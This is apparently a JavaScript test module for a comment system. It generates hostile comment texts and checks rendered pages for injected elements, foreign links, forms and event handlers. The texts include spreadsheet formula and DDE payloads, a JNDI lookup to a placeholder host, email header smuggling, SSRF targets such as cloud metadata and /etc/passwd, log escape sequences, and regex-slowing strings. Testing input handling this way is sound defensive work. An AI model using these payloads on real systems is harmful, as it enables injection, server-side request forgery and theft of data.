// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile texts: hostile.txt, and what cannot stand in a file of lines; and what a page must not have made of them.
// TOCSIN_HOSTILE names a folder with more: each file is a comment's JSON, or a text.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";

/** Elements that no page of ours has: the text of somebody became one. Our curves say that they are pictures. */
export const FOREIGN =
	'script:not([src^="/fixe/"]), iframe, object, embed, video, img, style, base, svg:not([role="img"]), math, template, link:not([href^="/fixe/"], [href="data:,"])';
export const FIELDS = ["author", "author_name", "url", "thread", "parent", "channel", "lang", "kind"];

const range = (first, last) => Array.from({ length: last - first + 1 }, (_, i) => String.fromCodePoint(first + i));
const INVISIBLE = [..."\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u00ad\u061c\u180e\u3164\u115f\uffa0\ufff9\u034f", "\u{e0001}", "\u{e0061}"];
const LOOKALIKES = { a: "аɑ", e: "еҽ", o: "оο", p: "рρ", c: "сϲ", u: "ս", x: "хⅹ", i: "іı", s: "ѕ" };

/** One text a class: what it is made of, many times. */
const CLASSES = [
	range(1, 0x1f).map((c) => `a${c}b`).join(" "), // control
	range(0x7f, 0x9f).map((c) => `a${c}b`).join(" "),
	INVISIBLE.map((c) => `nu${c}l ${c}nul dé${c}mission`).join(" "), // invisible, direction
	Object.entries(LOOKALIKES).flatMap(([a, all]) => [...all].map((b) => "dé" + "mission nul".replaceAll(a, b))).join(" "),
	[1, 10, 100, 1000].map((n) => "e" + "\u0301".repeat(n)).join(" "), // marks piled up
	[10, 100, 1000].map((n) => "\u{1F1EB}\u{1F1F7}".repeat(n) + " " + "\u{1F3F3}\ufe0f".repeat(n)).join(" "),
	[..."=+-@\t\r|%"].flatMap((c) => [`${c}HYPERLINK("http://mal.invalid","x")`, `${c}${c}1+1`]).join("\n"), // formulas
	["a\r\nBcc: e@mal.invalid", "a\r\n.\r\nMAIL FROM:<e>", "a\u0085b\u2028Bcc: e", "=?utf-8?B?YQ0KQmNjOiBl?=", '"a\\" <e@e>'].join("\n"), // headers
	["\x1b[2J\x1b[31mrouge", "\x1b]0;titre\x07", "\x9b31m", "%s%n%x", "${jndi:ldap://mal.invalid}", "a\u2029b"].join("\n"), // logs
	["http://127.0.0.1/", "http://[::1]/", "http://169.254.169.254/", "http://0x7f.1/", "file:///etc/passwd", "gopher://127.0.0.1:25/_MAIL",
		"http://ok.fr\\@127.0.0.1/", "HTTP://①②⑦.0.0.1/"].join(" "), // addresses
	"a@".repeat(5000) + "<".repeat(5000) + " ".repeat(5000) + "ab".repeat(5000), // slow for a careless pattern
];

const ODD = [
	"\u202eabruti\u2066 \u200b\ufeff\u00ad\u061c\u3164", // direction and what is invisible
	"Z" + "\u0351\u036b\u0343\u036a".repeat(200), // marks piled up
	"\u{e0041}\u{e0062} \u2028window.__pwned=1\u2029",
	"a".repeat(100_000), // one word
	"\u{1F468}\u200d".repeat(500) + "\u{1F469}",
	"\ufdfa".repeat(300),
	"\u0430\u0435\u043e\u0440\u0441 раураl", // look-alikes
	"=cmd|' /C calc'!A0",
	"<".repeat(5000) + "\n".repeat(500),
	...CLASSES,
];

/** The lines of hostile.txt. */
export const LINES = readFileSync(new URL("hostile.txt", import.meta.url), "utf8").trimEnd().split("\n");

function filesBelow(folder) {
	return readdirSync(folder).flatMap((name) => {
		const path = join(folder, name);
		return statSync(path).isDirectory() ? filesBelow(path) : [path];
	});
}

/** Of a file of the folder: a comment's fields, or its text. */
function read(path) {
	const text = readFileSync(path).toString("utf8");
	try {
		const fields = JSON.parse(text);
		if (typeof fields?.text === "string") return fields;
	} catch {
		// no JSON: a text
	}
	return { text };
}

/** Comments' fields: ours in every field, where a control character would be refused. */
export function corpus() {
	const ours = [...LINES, ...ODD].map((text) => ({ text, ...Object.fromEntries(FIELDS.map((f) => [f, text.replace(/\p{Cc}/gu, "").slice(0, 300)])) }));
	const folder = process.env.TOCSIN_HOSTILE;
	return folder ? [...ours, ...filesBelow(folder).map(read)] : ours;
}

/** What is wrong with a page that quotes them: null, or where it led, its foreign elements, links (but for `own`, whole addresses that
 * the town writes) and forms. */
export async function tainted(page, origin, own = []) {
	const state = await page.evaluate(([foreign, own]) => ({ origin: location.origin, foreign: [...document.querySelectorAll(foreign)].map((e) => e.outerHTML.slice(0, 200)),
		links: [...document.links].filter((a) => !own.includes(a.href)).map((a) => a.protocol).filter((p) => !["http:", "https:"].includes(p)),
		forms: [...document.forms].map((f) => f.getAttribute("action")).filter((to) => !to.startsWith("/") || to.startsWith("//")),
		handlers: [...document.querySelectorAll("*")].filter((e) => e.getAttributeNames().some((name) => name.startsWith("on"))).length }), [FOREIGN, own]);
	const good = state.origin === origin && !state.foreign.length && !state.links.length && !state.forms.length && !state.handlers;
	return good ? null : state;
}
